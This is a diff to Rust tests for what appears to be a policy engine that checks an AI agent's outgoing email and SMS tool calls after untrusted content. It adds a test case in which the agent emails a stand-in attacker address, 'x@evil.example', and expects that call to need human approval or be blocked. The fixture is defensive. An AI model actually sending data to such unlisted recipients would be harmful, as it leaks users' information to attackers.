@@ -270,8 +270,22 @@ mod tests {
                 Pass,
                 "",
             ),
+            // After untrusted content an e-mail to an unlisted address needs a person
+            // (AUTH) in balanced, and is refused (BLOCK) from strict up.
             (
                 Mode::Balanced,
+                false,
+                &tainted,
+                call(
+                    "send_email",
+                    json!({"to": "x@evil.example", "body": "hi"}),
+                    false,
+                ),
+                Auth,
+                "mcp_unlisted_recipient_tainted",
+            ),
+            (
+                Mode::Strict,
                 false,
                 &tainted,
                 call(
@@ -335,7 +349,7 @@ mod tests {
                 true,
                 &tainted,
                 call("send_sms", json!({"to": "+1 555 999 0000"}), false),
-                Block,
+                Auth,
                 "mcp_unlisted_recipient_tainted",
             ),
             // A read-only lookup by e-mail sends nothing.
